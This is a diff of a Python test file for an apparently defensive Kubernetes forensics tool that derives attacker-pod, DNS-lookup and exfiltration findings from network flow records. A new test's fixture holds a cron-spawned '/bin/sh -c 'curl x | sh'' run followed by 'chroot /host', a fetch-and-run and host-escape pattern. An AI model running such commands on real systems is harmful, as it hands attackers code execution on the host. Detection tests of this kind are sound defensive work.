@@ -262,14 +262,14 @@ def test_a_connection_dropped_on_its_other_node_did_not_get_through_and_the_exfi
     dns["flow"]["l4"] = {"UDP": {"source_port": 40003, "destination_port": 53}}
     dns["flow"] |= {"Type": "L7", "l7": {"type": "REQUEST", "dns": {"query": "db.shop.svc.cluster.local."}}}
     lines.append(json.dumps(dns))  # the pod's lookup: UDP, no connect hook to match it to a process
-    # the DNS server's node saw it at L4 only, and its clock reads a little behind
+    # the DNS server's node saw it at L4 only, and its clock reads a little behind: the same lookup
     l4 = json.loads(_sighting(40003, "10.0.0.10", 53, "FORWARDED", "2026-03-01T10:00:03.9Z", node="worker-9"))
     l4["flow"]["l4"] = {"UDP": {"source_port": 40003, "destination_port": 53}}
     lines.append(json.dumps(l4))
     c_ = _case(tmp_path, lines)
     f = H.derive_findings(c_)
     assert [(r["dst_port"], r["dns_query"], r["exec_id"]) for r in f["pod_flows"]] == [
-        (53, None, None), (53, "db.shop.svc.cluster.local.", None)]
+        (53, "db.shop.svc.cluster.local.", None)]
     assert f["flag_text"] == curl["binary"] + " " + curl["arguments"]
     assert f["flag"]["reason"] == "last process of the session that acted (a connection that got through with an effect)"
     assert [(r["dst_port"], r["verdict"]) for r in f["attack_flows"]] == [(443, "FORWARDED")]
@@ -694,3 +694,12 @@ def test_without_processes_a_scraper_retrying_one_refused_target_does_not_outwei
     f = H.derive_findings(c_)
     assert f["attacker_pod"] == POD, f["notes"]
     c_.close()
+
+
+def test_an_aftermath_note_counts_a_cron_entrys_runs_once_each():
+    from kernelsec_nb.report.surroundings import aftermath_note
+
+    run = {"binary": "/bin/sh", "args": "-c 'curl x | sh'", "what": "connected out of the cluster",
+           "parent": "/usr/sbin/cron -f", "after": "/usr/sbin/chroot /host"}
+    (note,) = aftermath_note([run] * 8)
+    assert "8 suspicious process(es)" in note and note.count("curl x | sh") == 1 and "8 runs" in note
